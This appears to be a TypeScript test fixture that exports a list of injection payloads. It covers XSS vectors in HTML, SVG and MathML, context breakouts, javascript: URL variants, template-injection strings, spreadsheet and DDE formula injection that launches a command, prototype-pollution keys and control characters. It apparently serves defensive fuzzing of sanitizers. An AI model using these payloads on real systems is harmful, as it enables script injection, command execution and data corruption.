/** Two hundred and more texts that would do something where text is taken for a program, for markup, for a formula or for an object's key. */

const CALL = 'ran(1)';

const MARKUP = [
  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src=data:text/javascript,${CALL}></script>`, `<img src=x onerror=${CALL}>`, `<img/src="x"/onerror="${CALL}">`,
  `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`, `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data="javascript:${CALL}"></object>`, `<embed src="javascript:${CALL}">`,
  `<body onload=${CALL}>`, `<details open ontoggle=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`, `<a href="javascript:${CALL}">x</a>`, `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<button formaction="javascript:${CALL}">x</button>`, `<base href="javascript:${CALL}//">`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<link rel=stylesheet href="javascript:${CALL}">`,
  `<style>@import "javascript:${CALL}";</style>`, `<div style="background:url(javascript:${CALL})">`, `<template><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<isindex action=javascript:${CALL}>`, `<xss contenteditable onblur=${CALL} tabindex=1 id=x>`, `<dialog open oncancel=${CALL}>`, `<dialog open><form method=dialog>`, `<p popover id=x onbeforetoggle=${CALL}>`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`, `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<?xml version="1.0"?><x onload=${CALL}/>`, `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
];
/** Ways out of an attribute, a title, a comment, a script, a template. */
const BREAKS = ['', '">', "'>", '--> ', '</title>', '</textarea>', '</script>', '</style>', '`>', '\\">'];
const ADDRESSES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', ' javascript:', 'data:text/html,<script>', 'vbscript:', 'blob:javascript:', 'view-source:javascript:'].map(scheme => `${scheme}${CALL}`);
const TEMPLATES = [`{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `#{${CALL}}`, `{{${CALL}}}`, `[[${CALL}]]`, `{%${CALL}%}`, `@(${CALL})`, `\`-${CALL}-\``, `';${CALL}//`, `";${CALL}//`, `\\';${CALL}//`];
const FORMULAS = ['=', '+', '-', '@', '\t=', '\r='].map(sign => `${sign}HYPERLINK("javascript:${CALL}","x")`).concat('=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'x\'!A0');
const KEYS = ['__proto__', 'constructor', 'prototype', '__proto__[ran]', 'constructor.prototype.ran', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then', 'toJSON', '$$typeof', 'dangerouslySetInnerHTML'];
const CONTROL = ['\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u001b[2J', '\u202egnp.exe', '\u2066\u202e}//\u2069', '\u200b\u200d\ufeff', '\u0000x', '\ufffe\uffff', 'Z\u0351\u0352'.repeat(20), '\ud800', '\uff1cscript\uff1eran(1)\uff1c/script\uff1e',
  '\u02bascript\u02ba', '%3Cscript%3Eran(1)%3C/script%3E', '&lt;script&gt;ran(1)&lt;/script&gt;', '&#60;script&#62;ran(1)&#60;/script&#62;', '\\u003cscript\\u003eran(1)\\u003c/script\\u003e', '+ADw-script+AD4-ran(1)+ADw-/script+AD4-'];

export const PAYLOADS: readonly string[] = [...new Set([
  ...MARKUP,
  ...BREAKS.slice(1).flatMap(out => MARKUP.filter((_, i) => i % 4 === 0).map(markup => out + markup)),
  ...ADDRESSES, ...TEMPLATES, ...FORMULAS, ...KEYS, ...CONTROL,
])];
